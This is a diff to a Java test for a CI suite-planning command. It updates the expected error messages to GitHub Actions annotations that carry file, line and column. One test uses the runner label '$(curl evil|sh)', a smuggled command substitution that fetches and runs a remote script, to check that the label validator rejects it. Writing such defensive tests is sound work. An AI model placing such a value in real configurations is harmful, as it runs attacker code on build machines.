@@ -85,8 +85,8 @@ class PlanSuiteAndFileRunCommandTest {
     Result r = run("plan-suite", "--policy", POLICY, "--registrations", bad.toString(), "--hw", "cuda", "--suite",
         "stage-c-4-gpu-h200");
     assertThat(r.code()).isEqualTo(1);
-    assertThat(r.err()).isEqualTo("::error::Invalid test registrations: " + bad + ":1:3: [0].labels: test file"
-        + " 'tests/e2e/test_a.py': a cuda (GPU) registration needs at least one label\n");
+    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(bad.toString()) + ",line=1,col=3,"
+        + "title=registrations::test file 'tests/e2e/test_a.py': a cuda (GPU) registration needs at least one label\n");
   }
 
   @Test
@@ -143,10 +143,13 @@ class PlanSuiteAndFileRunCommandTest {
         "tests/e2e/test_lora.py", "--github-output", output.toString());
     assertThat(r.code()).isEqualTo(1);
     assertThat(r.out()).isEmpty();
-    assertThat(r.err()).startsWith("::error::Invalid CI policy: " + file + ":")
-        .contains("backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label '$(curl evil|sh)' is not"
-            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}")
-        .hasLineCount(1);
+    String before = policy.substring(0, policy.indexOf("\"$(curl evil|sh)\""));
+    int line = before.split("\n", -1).length;
+    int col = before.length() - before.lastIndexOf('\n');
+    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(file.toString()) + ",line=" + line
+        + ",col=" + col + ","
+        + "title=suites::runner label '$(curl evil|sh)' is not shell-safe; expected 1 to 64 characters matching"
+        + " [A-Za-z0-9][A-Za-z0-9._-]{0,63}\n");
     assertThat(output).doesNotExist();
   }
 }
